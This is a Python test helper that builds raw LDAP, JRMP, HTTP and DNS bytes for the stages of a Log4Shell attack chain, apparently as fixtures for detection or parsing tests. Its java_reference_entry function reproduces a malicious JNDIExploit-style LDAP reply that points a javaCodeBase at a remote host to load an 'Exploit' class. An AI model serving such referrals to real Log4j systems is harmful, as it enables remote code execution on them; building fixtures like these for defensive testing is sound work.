"""Byte builders for the protocols of a Log4Shell chain (LDAP BER, JRMP, HTTP), for tests."""

from __future__ import annotations

CLASS_FILE = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 56
SERIALIZED = b"\xac\xed\x00\x05sr\x00\x16javax.naming.Reference" + b"\x00" * 16


def tlv(tag: int, content: bytes) -> bytes:
    """A BER TLV with a definite length (short or long form)."""
    n = len(content)
    if n < 0x80:
        return bytes([tag, n]) + content
    size = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(size)]) + size + content


def ldap_message(msg_id: int, op: bytes) -> bytes:
    return tlv(0x30, tlv(0x02, bytes([msg_id])) + op)


def bind_request(msg_id: int = 1) -> bytes:
    """An anonymous LDAPv3 simple bind, as the JNDI LDAP client sends first."""
    return ldap_message(msg_id, tlv(0x60, tlv(0x02, b"\x03") + tlv(0x04, b"") + tlv(0x80, b"")))


def bind_response(msg_id: int = 1) -> bytes:
    return ldap_message(msg_id, tlv(0x61, tlv(0x0A, b"\x00") + tlv(0x04, b"") + tlv(0x04, b"")))


def search_request(dn: bytes = b"a", msg_id: int = 2) -> bytes:
    body = (tlv(0x04, dn) + tlv(0x0A, b"\x00") + tlv(0x0A, b"\x03") + tlv(0x02, b"\x00")
            + tlv(0x02, b"\x00") + tlv(0x01, b"\x00") + tlv(0x87, b"objectClass") + tlv(0x30, b""))
    return ldap_message(msg_id, tlv(0x63, body))


def search_entry(attributes: list[tuple[bytes, list[bytes]]], dn: bytes = b"a",
                 msg_id: int = 2) -> bytes:
    attrs = b"".join(tlv(0x30, tlv(0x04, name) + tlv(0x31, b"".join(tlv(0x04, v) for v in vals)))
                     for name, vals in attributes)
    return ldap_message(msg_id, tlv(0x64, tlv(0x04, dn) + tlv(0x30, attrs)))


def search_done(msg_id: int = 2) -> bytes:
    return ldap_message(msg_id, tlv(0x65, tlv(0x0A, b"\x00") + tlv(0x04, b"") + tlv(0x04, b"")))


def java_reference_entry(codebase: bytes = b"http://203.0.113.7:8000/") -> bytes:
    """The reply of a JNDIExploit-style LDAP server: a javaNamingReference with a codebase."""
    return search_entry([(b"javaClassName", [b"foo"]), (b"javaCodeBase", [codebase]),
                         (b"objectClass", [b"javaNamingReference"]),
                         (b"javaFactory", [b"Exploit"])])


JRMI_HELLO = b"JRMI\x00\x02\x4b"
JRMI_ACK = b"\x4e\x00\x0a10.0.0.5\x00\x00\xc3\x50"
JRMI_CALL = b"\x50\xac\xed\x00\x05\x77\x22" + b"\x00" * 34 + b"t\x00\x01a"
JRMI_RETURN = b"\x51\xac\xed\x00\x05\x77\x0f\x01" + b"\x00" * 14 + SERIALIZED[4:]


def http_get(uri: str, host: str, agent: str) -> bytes:
    return (f"GET {uri} HTTP/1.1\r\nUser-Agent: {agent}\r\nHost: {host}\r\n"
            "Accept: text/html, image/gif, *; q=.2, */*; q=.2\r\nConnection: keep-alive\r\n\r\n"
            ).encode()


def http_ok(body: bytes, content_type: str) -> bytes:
    head = (f"HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n")
    return head.encode() + body


def dns_query(name: str, trans_id: int = 0x1234) -> bytes:
    """A DNS A query; name's dots split labels, whatever bytes the labels hold."""
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return trans_id.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + qname \
        + b"\x00\x01\x00\x01"
